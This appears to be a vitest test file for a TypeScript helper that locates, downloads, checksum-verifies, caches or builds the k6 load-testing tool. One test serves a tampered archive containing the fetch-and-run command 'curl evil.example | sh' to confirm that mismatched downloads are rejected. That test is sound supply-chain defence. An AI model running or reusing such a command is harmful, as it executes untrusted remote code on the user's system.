import { createHash } from 'node:crypto';
import { chmod, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import { type K6Request, obtainK6 } from '../../src/tools/k6.ts';
import { K6_PINS, K6_VERSION, type K6Pin } from '../../src/tools/k6-pins.ts';
import { temporaryFolder } from '../load/support/temporary-folder.ts';

const TARGET = `${process.platform}-${process.arch}`;
const ENTRY = 'k6-v2.2.0-test/k6';

const servers: Server[] = [];
afterEach(() => {
  for (const server of servers.splice(0)) {
    server.close();
    server.closeAllConnections();
  }
});

/** A shell script that answers as a program would. */
function program(body: string): string {
  return `#!/bin/sh\n${body}\n`;
}

const ANSWERS_VERSION = program('echo "k6 v2.2.0 (go1.26.8, linux/amd64)"');

/** One regular file in a ustar archive. */
function tarOf(name: string, content: string): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0);
  header.write('0000755\0', 100);
  header.write(`${Buffer.byteLength(content).toString(8).padStart(11, '0')}\0`, 124);
  header.write('        ', 148);
  header.write('0', 156);
  header.write('ustar\0', 257);
  header.write('00', 263);
  const sum = header.reduce((total, byte) => total + byte, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  const padding = Buffer.alloc((512 - (Buffer.byteLength(content) % 512)) % 512);
  return gzipSync(Buffer.concat([header, Buffer.from(content), padding, Buffer.alloc(1024)]));
}

interface World {
  readonly request: K6Request;
  readonly bin: string;
  readonly log: string[];
  readonly downloads: string[];
}

interface WorldInput {
  readonly served?: Buffer;
  readonly pinned?: Buffer;
  /** Programs on the PATH, by name. */
  readonly programs?: Readonly<Record<string, string>>;
}

/** A machine with an empty PATH apart from `programs`, and a release server that serves `served`, or 404. */
async function makeWorld({ served, pinned, programs = {} }: WorldInput = {}): Promise<World> {
  const folder = await temporaryFolder();
  const bin = join(folder, 'bin');
  const workDirectory = join(folder, 'work');
  await mkdir(bin);
  await mkdir(workDirectory);
  for (const [name, content] of Object.entries(programs)) {
    await writeFile(join(bin, name), content);
    await chmod(join(bin, name), 0o755);
  }
  const downloads: string[] = [];
  const address = await startReleases(served, downloads);
  const pin: K6Pin = {
    archive: 'k6-v2.2.0-test.tar.gz',
    sha256: sha256(pinned ?? served ?? Buffer.alloc(0)),
    entry: ENTRY,
  };
  const log: string[] = [];
  const request: K6Request = {
    environment: { PATH: `${bin}:relative/bin` },
    toolCache: join(folder, 'cache'),
    workDirectory,
    log: (line) => log.push(line),
    release: { address, pins: { [TARGET]: pin } },
  };
  return { request, bin, log, downloads };
}

async function startReleases(served: Buffer | undefined, downloads: string[]): Promise<string> {
  const server = createServer((request, response) => {
    downloads.push(request.url ?? '');
    if (served) response.end(served);
    else response.writeHead(404).end('Not Found');
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return `http://127.0.0.1:${address.port}`;
}

function sha256(bytes: Buffer): string {
  return createHash('sha256').update(bytes).digest('hex');
}

async function filesUnder(folder: string): Promise<readonly string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((entry) => entry.isFile()).map((entry) => entry.name);
}

describe('obtainK6', () => {
  it('takes the k6 on the PATH, with the version it names', async () => {
    const { request, bin, downloads } = await makeWorld({ programs: { k6: ANSWERS_VERSION } });
    expect(await obtainK6(request)).toEqual({ file: join(bin, 'k6'), version: '2.2.0', source: 'path' });
    expect(downloads).toEqual([]);
  });

  it('passes over one that is too old, and says so', async () => {
    const served = tarOf(ENTRY, ANSWERS_VERSION);
    const old = program('echo "k6 v0.57.0 (go1.23, linux/amd64)"');
    const { request, log } = await makeWorld({ served, programs: { k6: old } });
    expect((await obtainK6(request)).source).toBe('download');
    expect(log.join('\n')).toContain('0.57.0');
  });

  it('fetches the pinned release, keeps it, and does not ask for it again', async () => {
    const served = tarOf(ENTRY, ANSWERS_VERSION);
    const { request, downloads } = await makeWorld({ served });
    const first = await obtainK6(request);
    expect(first).toMatchObject({ version: K6_VERSION, source: 'download' });
    expect(await readFile(first.file, 'utf8')).toBe(ANSWERS_VERSION);
    expect((await obtainK6(request)).source).toBe('cache');
    expect(downloads).toEqual([`/v${K6_VERSION}/k6-v2.2.0-test.tar.gz`]);
  });

  it('refuses a download with other bytes than were pinned, and keeps nothing of it', async () => {
    const pinned = tarOf(ENTRY, ANSWERS_VERSION);
    const served = tarOf(ENTRY, program('curl evil.example | sh'));
    const { request } = await makeWorld({ served, pinned });
    await expect(obtainK6(request)).rejects.toMatchObject({ problem: { code: 'tool.digest-mismatch' } });
    expect(await filesUnder(request.toolCache)).toEqual([]);
  });

  it('keeps nothing of half a download, and goes on to Go, which knows the proxies', async () => {
    const go = program(`/usr/bin/env > "$GOPATH/environment"; if [ "$1" = build ]; then echo built > "$3"; fi`);
    const world = await makeWorld({ programs: { go } });
    const server = createServer((_, response) => {
      response.writeHead(200, { 'content-length': '1000000' }).write('half', () => response.destroy());
    });
    servers.push(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const pins = world.request.release?.pins ?? {};
    const proxies = {
      NO_PROXY: '127.0.0.1',
      HTTPS_PROXY: 'http://proxy.invalid:3128',
      GOPROXY: 'https://goproxy.invalid',
    };
    const environment = { PATH: world.bin, GOPATH: world.bin, ...proxies, GITHUB_TOKEN: 'secret' };
    const found = await obtainK6({ ...world.request, environment, release: { address, pins } });
    expect(found.source).toBe('go');
    expect((await filesUnder(world.request.toolCache)).toSorted()).toEqual(['k6', 'k6.sha256']);
    const seen = await readFile(join(world.bin, 'environment'), 'utf8');
    for (const [name, value] of Object.entries(proxies)) expect(seen).toContain(`${name}=${value}`);
    expect(seen).not.toContain('secret');
  });

  it('comes through the proxy of the runner', async () => {
    const served = tarOf(ENTRY, ANSWERS_VERSION);
    const { request, downloads } = await makeWorld({ served });
    const proxy = request.release?.address ?? '';
    const environment = { ...request.environment, HTTP_PROXY: proxy };
    const release = { address: 'http://releases.invalid/k6', pins: request.release?.pins ?? {} };
    expect((await obtainK6({ ...request, environment, release })).source).toBe('download');
    expect(downloads).toEqual([`http://releases.invalid/k6/v${K6_VERSION}/k6-v2.2.0-test.tar.gz`]);
  });

  it('does not use an archive in the tool cache that was changed since: it is deleted and fetched again', async () => {
    const served = tarOf(ENTRY, ANSWERS_VERSION);
    const { request, downloads } = await makeWorld({ served });
    await obtainK6(request);
    const cached = join(request.toolCache, 'api-testing-k6', K6_VERSION, TARGET, 'k6-v2.2.0-test.tar.gz');
    await writeFile(cached, tarOf(ENTRY, program('echo swapped')));
    expect((await obtainK6(request)).source).toBe('download');
    expect(downloads).toHaveLength(2);
    expect(await readFile(cached)).toEqual(served);
  });

  it('builds it from the Go module where the release cannot be reached, once', async () => {
    const go = program(`echo "$@" >> "$GOPATH/calls"; /bin/cat go.sum >> "$GOPATH/sums"
if [ "$1" = build ]; then printf '#!/bin/sh\\necho "k6 v2.2.0"\\n' > "$3"; fi`);
    const world = await makeWorld({ programs: { go } });
    const environment = { PATH: world.bin, GOPATH: world.bin };
    const request = { ...world.request, environment };
    const built = await obtainK6(request);
    expect(built).toMatchObject({ version: K6_VERSION, source: 'go' });
    const calls = await readFile(join(world.bin, 'calls'), 'utf8');
    expect(calls.trim().split('\n')).toEqual([
      'mod init k6-build',
      `get go.k6.io/k6/v2@v${K6_VERSION}`,
      'build -o built go.k6.io/k6/v2',
    ]);
    expect(await readFile(join(world.bin, 'sums'), 'utf8')).toContain('h1:');
    expect((await obtainK6(request)).source).toBe('cache');
  });

  it('does not use a built program that was damaged since', async () => {
    const go = program(`if [ "$1" = build ]; then echo new > "$3"; fi`);
    const world = await makeWorld({ programs: { go } });
    const { request } = world;
    const built = await obtainK6(request);
    await writeFile(built.file, 'damaged');
    expect((await obtainK6(request)).source).toBe('go');
    expect(await readFile(built.file, 'utf8')).toBe('new\n');
  });

  it('says every way it tried, and which step to add to the workflow, where there is none', async () => {
    const go = program('echo "go: no network" >&2; exit 1');
    const world = await makeWorld({ programs: { go } });
    const failed = obtainK6(world.request);
    await expect(failed).rejects.toMatchObject({
      problem: { code: 'tool.k6-missing', todo: expect.stringContaining('grafana/setup-k6-action') },
    });
    await expect(failed).rejects.toThrow(/the server answered 404.*go: no network/su);
  });

  it('names the platform where there is no release for it, and that Go is missing', async () => {
    const { request } = await makeWorld();
    const release = { address: 'http://127.0.0.1:9', pins: {} };
    await expect(obtainK6({ ...request, release })).rejects.toThrow(
      new RegExp(`no release for ${TARGET}.*no Go`, 'su'),
    );
  });

  it('uses the k6 it is given, and refuses one that is none', async () => {
    const { request, bin } = await makeWorld({ programs: { mine: ANSWERS_VERSION, other: program('exit 3') } });
    expect(await obtainK6({ ...request, override: join(bin, 'mine') })).toMatchObject({ version: '2.2.0' });
    await expect(obtainK6({ ...request, override: join(bin, 'other') })).rejects.toMatchObject({
      problem: { code: 'tool.k6-unusable' },
    });
    await expect(obtainK6({ ...request, override: join(bin, 'missing') })).rejects.toThrow('no such program');
  });

  it('pins every platform of the release with a checksum of its own', () => {
    const pins = Object.values(K6_PINS).flatMap((pin) => pin ?? []);
    expect(pins).toHaveLength(5);
    for (const pin of pins) {
      expect(pin.sha256).toMatch(/^[0-9a-f]{64}$/u);
      expect(pin.archive).toContain(`k6-v${K6_VERSION}-`);
      expect(pin.entry.startsWith(pin.archive.replace(/\.(?:tar\.gz|zip)$/u, '/'))).toBe(true);
    }
    expect(new Set(pins.map((pin) => pin.sha256)).size).toBe(5);
  });
});

describe('with k6: obtainK6', () => {
  it('reads the version of a real k6', async () => {
    const { request } = await makeWorld();
    const found = await obtainK6({ ...request, environment: process.env });
    expect(found.version).toMatch(/^\d+\.\d+\.\d+/u);
    expect(Number(found.version.split('.')[0])).toBeGreaterThanOrEqual(1);
  });
});
